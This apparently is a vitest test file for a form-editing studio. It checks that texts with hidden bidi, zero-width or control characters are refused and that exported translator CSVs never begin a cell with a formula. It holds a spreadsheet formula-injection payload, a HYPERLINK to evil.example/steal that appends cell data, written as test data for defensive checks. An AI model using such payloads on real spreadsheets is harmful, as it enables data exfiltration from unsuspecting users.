import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  TEXTS_CSV_COLUMNS,
  type ExportTextsAnswer,
  type ImportTextsAnswer,
  type StudioDraftAnswer,
} from '../../src/shared/api/studio';
import { FORM_TEXT_MAX } from '../../src/shared/studio/text-rule';
import { apiText } from './application-fixtures';
import { createTestApp, databaseKinds, type TestApp } from './helpers';
import {
  draftNow,
  permitNumberQuestion,
  revisionOf,
  saveQuestion,
  signedIn,
  studio,
  type SignedIn,
} from './studio-fixtures';

// Issue 31, items 4 and 7: every form text the studio saves follows the project's text rule (no
// control, bidi or zero-width characters, a length), in the question editor, the advanced save and the
// translator's CSV; and the CSV a translator opens in a spreadsheet carries no formula.

type Row = Record<(typeof TEXTS_CSV_COLUMNS)[number], string>;
interface Refusal {
  errors: { path: string; part: string; message: string }[];
}

/** A right-to-left override: "txt.exe" shows as "exe.txt"; a zero-width space; a bell. */
const HIDDEN = ['\u202e', '\u200b', '\u0007'];
const HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"Open the guide")';

describe.each(databaseKinds)('the studio’s form texts, on %s', (kind) => {
  let t: TestApp;
  let editor: SignedIn;

  beforeAll(async () => {
    t = await createTestApp({}, { kind });
    editor = await signedIn(t, 'policy_editor', 'Asha Editor');
  }, 120_000);
  afterAll(() => t?.close());
  beforeEach(async () => {
    expect((await studio(t, editor, 'discard_draft')).status).toBe(200);
  });

  async function unchanged(before: StudioDraftAnswer): Promise<void> {
    const after = await draftNow(t, editor);
    expect(after.draft.revision).toBe(before.draft.revision);
    expect(after.draft.set).toEqual(before.draft.set);
  }

  it('attack: the question editor refuses a label or help with a hidden character, in the editor’s language', async () => {
    const before = await draftNow(t, editor);
    for (const hidden of HIDDEN) {
      const question = permitNumberQuestion({
        label: { en: 'Number of the building permit', sw: `Namba ya kibali${hidden}` },
      });
      const res = await studio<Refusal>(
        t,
        editor,
        'save_question',
        { step: 'construction', name: question.name, base: 0, question, create: true },
        { 'accept-language': 'sw' },
      );
      expect(res.status).toBe(422);
      expect(res.body!.response.message).toBe(apiText('sw', 'studio.text_refused'));
      expect(res.body!.response.data.errors).toEqual([
        { path: '/label/sw', part: 'label', message: apiText('sw', 'studio.text_hidden', { at: 'label/sw' }) },
      ]);
    }
    const help = permitNumberQuestion({ help: { en: `As printed\u2066 on the permit`, sw: 'Kama ilivyochapishwa' } });
    const refused = await saveQuestion(t, editor, before, 'construction', help);
    expect(refused.status).toBe(422);
    expect(refused.body!.response.message).toBe(apiText('en', 'studio.text_refused'));
    await unchanged(before);
    // Line breaks are a help text's paragraphs: let through.
    const paragraphs = permitNumberQuestion({
      help: { en: 'As printed.\nSee the permit.', sw: 'Kama ilivyo.\nAngalia.' },
    });
    expect((await saveQuestion(t, editor, before, 'construction', paragraphs)).status).toBe(200);
  });

  it('attack: an advanced save refuses hidden characters and over-long texts anywhere in its schema and UI schema', async () => {
    const before = await draftNow(t, editor);
    const step = before.draft.set.steps.repair!;
    const properties = step.schema.properties as Record<string, Record<string, unknown>>;
    const [field] = Object.keys(properties);
    const schema = {
      ...step.schema,
      $comment: 'x'.repeat(FORM_TEXT_MAX + 1),
      properties: { ...properties, [field!]: { ...properties[field!], title: `repair.title\u202e` } },
    };
    const ui = { ...step.uiSchema, [`${field!}\u200b`]: { 'ui:help': 'repair.title' } };
    const res = await studio<Refusal>(t, editor, 'save_step', {
      step: 'repair',
      base: revisionOf(before, 'step:repair'),
      schema,
      ui_schema: ui,
    });
    expect(res.status).toBe(422);
    expect(res.body!.response.message).toBe(apiText('en', 'studio.text_refused'));
    const at = (path: string) => res.body!.response.data.errors.find((e) => e.path === path);
    expect(at('/schema/$comment')).toMatchObject({
      part: 'schema',
      message: apiText('en', 'studio.text_too_long', { at: 'schema/$comment', max: String(FORM_TEXT_MAX) }),
    });
    expect(at(`/schema/properties/${field!}/title`)).toMatchObject({ part: 'schema' });
    expect(at(`/ui_schema/${field!}\u200b`)).toMatchObject({ part: 'ui_schema' });
    // A step's title, too.
    const title = await studio(t, editor, 'save_step', {
      step: 'repair',
      base: revisionOf(before, 'step:repair'),
      title: { en: 'Repair\u202e', sw: 'Matengenezo' },
    });
    expect(title.status).toBe(422);
    await unchanged(before);
  });

  async function exported(): Promise<{ csv: string; rows: Row[] }> {
    const res = await studio<ExportTextsAnswer>(t, editor, 'export_texts');
    expect(res.status).toBe(200);
    const { csv } = res.body!.response.data;
    return { csv, rows: parse<Row>(csv, { columns: true }) };
  }
  const toCsv = (rows: Row[]) => stringify(rows, { header: true, columns: [...TEXTS_CSV_COLUMNS] });
  async function importCsv(csv: string, headers: Record<string, string> = {}) {
    const view = await draftNow(t, editor);
    return studio<ImportTextsAnswer>(t, editor, 'import_texts', { base: revisionOf(view, 'texts'), csv }, headers);
  }

  it('attack: the CSV import refuses a text with a hidden character or too long, with its key and line, and changes nothing', async () => {
    const { rows } = await exported();
    const before = await draftNow(t, editor);
    const at = rows.findIndex((r) => r.key === 'repair.title');
    const hidden = rows.map((r, i) => (i === at ? { ...r, sw: 'Matengenezo\u202e ya jengo' } : r));
    const res = await importCsv(toCsv(hidden), { 'accept-language': 'sw' });
    expect(res.status).toBe(422);
    // The header is line 1, each text one line.
    const line = String(at + 2);
    expect(res.body!.response.message).toBe(apiText('sw', 'studio.csv_text_hidden', { key: 'repair.title', line }));
    const long = rows.map((r, i) => (i === at ? { ...r, en: 'x'.repeat(FORM_TEXT_MAX + 1) } : r));
    const tooLong = await importCsv(toCsv(long));
    expect(tooLong.status).toBe(422);
    expect(tooLong.body!.response.message).toBe(
      apiText('en', 'studio.csv_text_too_long', { key: 'repair.title', line, max: String(FORM_TEXT_MAX) }),
    );
    await unchanged(before);
  });

  it('attack: a text the export gives a spreadsheet never starts a formula, and comes back as it was', async () => {
    const view = await draftNow(t, editor);
    const titled = await studio(t, editor, 'save_step', {
      step: 'repair',
      base: revisionOf(view, 'step:repair'),
      title: { en: HYPERLINK, sw: "'+255 777 000 000" },
    });
    expect(titled.status, JSON.stringify(titled.body)).toBe(200);
    const { csv, rows } = await exported();
    const title = rows.find((r) => r.key === 'repair.title')!;
    expect(title.en).toBe(`'${HYPERLINK}`);
    expect(title.en_at_export).toBe(`'${HYPERLINK}`);
    // A text of its own starting with a quote before a formula's sign gets one more quote.
    expect(title.sw).toBe("''+255 777 000 000");
    // No cell of the file starts as a formula would.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // The file back, as exported: nothing changes, the texts are as they were.
    const back = await importCsv(csv);
    expect(back.status, JSON.stringify(back.body)).toBe(200);
    expect(back.body!.response.data).toMatchObject({ updated: 0, changed_in_english: [] });
    const texts = (await draftNow(t, editor)).draft.set.texts as Record<string, Record<string, Record<string, string>>>;
    expect(texts.en!.repair!.title).toBe(HYPERLINK);
    expect(texts.sw!.repair!.title).toBe("'+255 777 000 000");

    // A translator's Swahili saved by a spreadsheet with its quote, or typed without one: the same text.
    const edited = rows.map((r) => (r.key === 'repair.description' ? { ...r, sw: "'-Eleza matengenezo" } : r));
    expect((await importCsv(toCsv(edited))).status).toBe(200);
    const after = (await draftNow(t, editor)).draft.set.texts as Record<string, Record<string, Record<string, string>>>;
    expect(after.sw!.repair!.description).toBe('-Eleza matengenezo');
  });
});
